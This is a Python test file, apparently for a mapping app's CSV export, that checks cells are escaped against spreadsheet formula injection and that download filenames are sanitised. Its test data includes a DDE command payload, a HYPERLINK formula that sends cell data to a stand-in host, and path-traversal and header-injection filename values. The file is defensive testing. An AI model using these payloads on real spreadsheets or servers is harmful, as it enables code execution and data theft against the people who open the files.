"""No text of a table runs as a formula, and none is changed on the way there and back."""

import csv
import io
import re
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from werkzeug import Response

from geo_app.exports.cells import read_cell, safe_cell, safe_row
from geo_app.exports.downloads import as_download

HOSTILE = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"here")',
    "\tan indented text",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "﹦1+1",
    "﹢1",
    "'=1+1",
    "- đã kiểm tra",
    "+84 912",
    "=",
]
# Behind a delimiter of other spreadsheets, or a line end, with what is skipped there.
INNER = {
    "BB;=cmd|' /C calc'!A0;": "BB;'=cmd|' /C calc'!A0;",
    "BB\t@SUM(A1)": "BB\t'@SUM(A1)",
    "BB\n=1": "BB\n'=1",
    "BB\r\n=1": "BB\r\n'=1",
    "a; \u00a0\u200b=1": "a;' \u00a0\u200b=1",
    'a;"=1"': 'a;\'"=1"',
    'a;" "=1': 'a;\'" "=1',
    "a;＝1": "a;'＝1",
    "a;-5": "a;'-5",
    "a;'=1": "a;''=1",
    "a;b;+1;-1": "a;b;'+1;'-1",
    "=1;=2": "'=1;'=2",
    "\t=1+1": "'\t'=1+1",
    "\r=1+1": "'\r'=1+1",
    "\n=1+1": "'\n'=1+1",
}
HARMLESS = [
    "Cửa Nam; Hàng Bông",
    "a;",
    ";;",
    "a;'b'",
    "một\nhai",
    '{"a": "x; y"}',
    "",
    "phố Hàng Bạc",
    "1-2",
    "a=b",
    "'",
    "'a",
    "BB 12/BB-CA",
    "  hai",
    "(=1)",
    "0912",
]
NUMBERS = ["-12", "-12.5", "+3", "-1,5", "-1.234.567", "1e-5", "105.852200", "-0"]
# Signs, what hides them, and letters, in any order.
TEXTS = st.text(st.sampled_from("=+-@＝﹢'\t\r\n \u00a0\u200b\ufeff\u202e1.,eaĐ;\"")) | st.text()


@pytest.mark.parametrize("text", HOSTILE)
def test_what_could_run_has_an_apostrophe_before_it(text: str) -> None:
    assert safe_cell(text) == "'" + text
    assert read_cell("'" + text) == text


@pytest.mark.parametrize(("text", "written"), INNER.items())
def test_what_could_run_behind_another_delimiter_has_one_too(text: str, written: str) -> None:
    assert safe_cell(text) == written
    assert read_cell(written) == text


@pytest.mark.parametrize("text", HARMLESS + NUMBERS)
def test_what_cannot_run_is_as_it_was(text: str) -> None:
    assert safe_cell(text) == text
    assert read_cell(text) == text


@pytest.mark.parametrize("value", [-12, -12.5, Decimal("-1.5"), None, True, date(2024, 6, 17)])
def test_what_is_no_text_stays_what_it_is(value: object) -> None:
    assert safe_cell(value) is value


@given(TEXTS)
@example("''=1")
@example("'-5")
@example("-5")
@example("\u200b\t=1")
@example("';'=1;''-5")
def test_there_and_back_nothing_has_changed(text: str) -> None:
    assert read_cell(str(safe_cell(text))) == text


@given(TEXTS)
def test_no_text_begins_as_a_formula_unless_it_is_a_number(text: str) -> None:
    written = str(safe_cell(text))
    starts = re.match(r"[\s\u200b\ufeff\u202e]*[=+\-@＝﹢]|[\t\r\n]", written)
    assert not starts or re.fullmatch(r"[+-]?[\d.,eE+-]+", written)


@given(st.lists(TEXTS.filter(lambda text: "\0" not in text), min_size=2, max_size=4))
def test_a_row_of_csv_comes_back(row: list[str]) -> None:
    written = io.StringIO(newline="")
    csv.writer(written).writerow(safe_row(row))
    read = next(csv.reader(io.StringIO(written.getvalue(), newline=""), strict=True))
    assert [read_cell(cell) for cell in read] == row


@pytest.mark.parametrize("delimiter", [";", "\t"])
@given(row=st.lists(TEXTS, min_size=1, max_size=4))
@example(row=['a;"=1"', "b"])
@example(row=["a\n=1,2"])
@example(row=['";" "=1'])
def test_no_cell_runs_where_a_spreadsheet_separates_otherwise(
    delimiter: str, row: list[str]
) -> None:
    written = io.StringIO(newline="")
    csv.writer(written).writerows([["1", *safe_row(row)], ["2"]])
    read = csv.reader(io.StringIO(written.getvalue(), newline=""), delimiter=delimiter)
    for cell in (cell for cells in read for cell in cells):
        assert not re.match(r"[\s\u200b\ufeff\u202e\"]*[=+\-@＝﹢]", cell)


@pytest.mark.parametrize(
    ("parts", "name"),
    [
        (("hotspots", "020", "2024-06-17"), "hotspots-020-2024-06-17.csv"),
        (("Quận Hoàn Kiếm", "Đống Đa"), "quan-hoan-kiem-dong-da.csv"),
        (("../../etc/passwd",), "etc-passwd.csv"),
        (('a"; filename="evil.exe',), "a-filename-evil-exe.csv"),
        (("a\r\nSet-Cookie: x=1",), "a-set-cookie-x-1.csv"),
        (("CON.", "\u202efdp.exe"), "con-fdp-exe.csv"),
        (("＝", ""), "hotspots.csv"),
        (("x" * 500,), "x" * 100 + ".csv"),
    ],
)
def test_a_file_has_a_name_that_is_only_a_name(parts: tuple[str, ...], name: str) -> None:
    headers = as_download(Response(), *parts, ending="csv").headers
    assert headers["Content-Disposition"] == f"attachment; filename={name}"


def test_a_sheet_is_saved_under_the_name_it_had(signed_in) -> None:
    answer = signed_in("viewer").get("/districts/020/snapshot.svg?as_of=2024-06-17&download=1")
    disposition = answer.headers["Content-Disposition"]
    assert disposition == "attachment; filename=hotspots-020-2024-06-17.svg"
